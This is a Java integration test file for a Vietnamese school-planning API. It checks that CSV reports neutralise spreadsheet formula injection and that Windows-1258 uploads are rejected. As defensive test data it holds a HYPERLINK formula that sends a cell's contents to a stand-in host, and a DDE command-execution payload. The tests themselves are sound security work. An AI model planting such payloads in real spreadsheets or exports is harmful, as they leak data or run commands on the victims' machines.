package vn.hailong.system;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.r2dbc.core.DatabaseClient;
import org.springframework.test.web.reactive.server.WebTestClient;

import vn.hailong.Fixtures;
import vn.hailong.IntegrationTest;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Spreadsheets in and out: a name that Excel would run as a formula is written inert in
 * every CSV, and a units CSV saved the Windows way (Windows-1258) is refused with a hint
 * instead of being stored garbled.
 */
@IntegrationTest
class SpreadsheetSafetyIntegrationTests {

	private static final String EVIL_UNIT = "=HYPERLINK(\"http://example.invalid/?d=\"&A2,\"x\")";

	@Autowired
	private WebTestClient client;

	@Autowired
	private DatabaseClient database;

	@Test
	void writesFormulaLikeNamesInertInTheReportCsv() throws IOException {
		String prefix = UUID.randomUUID().toString().substring(0, 8);
		String office = prefix + "-PGD";
		String school = prefix + "-TH";
		this.client.post()
			.uri("/api/v1/units/import")
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue(List.of(Fixtures.unit(office, "+Phòng GD&ĐT", "district_office", null, 0),
					Fixtures.unit(school, EVIL_UNIT, "primary", office, 100)))
			.exchange()
			.expectStatus()
			.isOk();
		String plan = "kh-" + prefix;
		String yaml = """
				code: %s
				issuer: "-Sở GD&ĐT"
				year: 2025
				title: Kế hoạch kiểm thử
				unit: %s
				indicators:
				  - ref: r1
				    name: "@SUM(1+1)"
				    comparator: '>='
				    target: 90
				    reported: { numerator: "=1+1", denominator: Tổng số hồ sơ }
				""".formatted(plan, office);
		this.client.post()
			.uri("/api/v1/plans")
			.contentType(MediaType.parseMediaType("application/yaml"))
			.bodyValue(yaml)
			.exchange()
			.expectStatus()
			.isCreated();
		this.client.post()
			.uri("/api/v1/plans/{plan}/figures", plan)
			.contentType(MediaType.APPLICATION_JSON)
			.bodyValue(List
				.of(Map.of("indicator", "r1", "unit", school, "period", "2025-Q1", "numerator", 9, "denominator", 10)))
			.exchange()
			.expectStatus()
			.isCreated();
		byte[] csv = this.client.get()
			.uri("/api/v1/plans/{plan}/report?period=2025-Q1&format=csv", plan)
			.exchange()
			.expectStatus()
			.isOk()
			.expectBody()
			.returnResult()
			.getResponseBody();
		String text = new String(csv, StandardCharsets.UTF_8).substring(1);
		assertThat(text).contains("'@SUM(1+1)").contains("'=HYPERLINK(").contains("'+Phòng GD&ĐT");
		List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
		assertThat(records).hasSizeGreaterThan(2);
		for (CSVRecord record : records) {
			for (String cell : record) {
				assertThat(cell).as("a cell Excel would run").doesNotMatch("(?s)^[=+@\\t\\r].*");
				if (cell.startsWith("-")) {
					assertThat(cell).matches("-[0-9]+([.,][0-9]+)?");
				}
			}
		}
	}

	@Test
	void neutralisesEveryRiskyFirstCharacter() {
		assertThat(SafeCsv.neutralise("=1+1")).isEqualTo("'=1+1");
		assertThat(SafeCsv.neutralise("+84 912")).isEqualTo("'+84 912");
		assertThat(SafeCsv.neutralise("-cmd|' /C calc'!A0")).isEqualTo("'-cmd|' /C calc'!A0");
		assertThat(SafeCsv.neutralise("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
		assertThat(SafeCsv.neutralise("\t=1")).isEqualTo("'\t=1");
		assertThat(SafeCsv.neutralise("\r=1")).isEqualTo("'\r=1");
		assertThat(SafeCsv.neutralise("-3.5")).isEqualTo("-3.5");
		assertThat(SafeCsv.neutralise(-3.5)).isEqualTo(-3.5);
		assertThat(SafeCsv.neutralise("Trường")).isEqualTo("Trường");
	}

	@Test
	void refusesAUnitsCsvSavedInWindows1258WithAHint() {
		String prefix = UUID.randomUUID().toString().substring(0, 8);
		byte[] windows = ("code,name,level,parent,population\r\n" + prefix
				+ "-TH,Trường Tiểu học Long Hậu,primary,,850\r\n")
			.getBytes(Charset.forName("windows-1258"));
		assertThat(new String(windows, StandardCharsets.UTF_8)).contains("\uFFFD");
		this.client.post()
			.uri("/api/v1/units/import")
			.contentType(MediaType.parseMediaType("text/csv"))
			.bodyValue(windows)
			.exchange()
			.expectStatus()
			.isBadRequest()
			.expectHeader()
			.contentType(MediaType.APPLICATION_PROBLEM_JSON)
			.expectBody()
			.jsonPath("$.type")
			.isEqualTo("https://hailong.vn/problems/invalid-encoding")
			.jsonPath("$.errors[0].field")
			.isEqualTo("body")
			.jsonPath("$.errors[0].code")
			.isEqualTo("not_utf8")
			.jsonPath("$.detail")
			.value((detail) -> assertThat((String) detail).contains("CSV UTF-8"));
		long stored = this.database.sql("select count(*) from unit where code = $1")
			.bind(0, prefix + "-TH")
			.map((row) -> row.get(0, Long.class))
			.one()
			.block();
		assertThat(stored).isZero();
	}

	@Test
	void refusesAPlanThatIsNotUtf8() {
		byte[] latin = "code: kh-x\ntitle: Trường học\n".getBytes(Charset.forName("windows-1258"));
		this.client.post()
			.uri("/api/v1/plans")
			.contentType(MediaType.parseMediaType("application/yaml"))
			.bodyValue(latin)
			.exchange()
			.expectStatus()
			.isBadRequest()
			.expectBody()
			.jsonPath("$.type")
			.isEqualTo("https://hailong.vn/problems/invalid-encoding");
	}

}
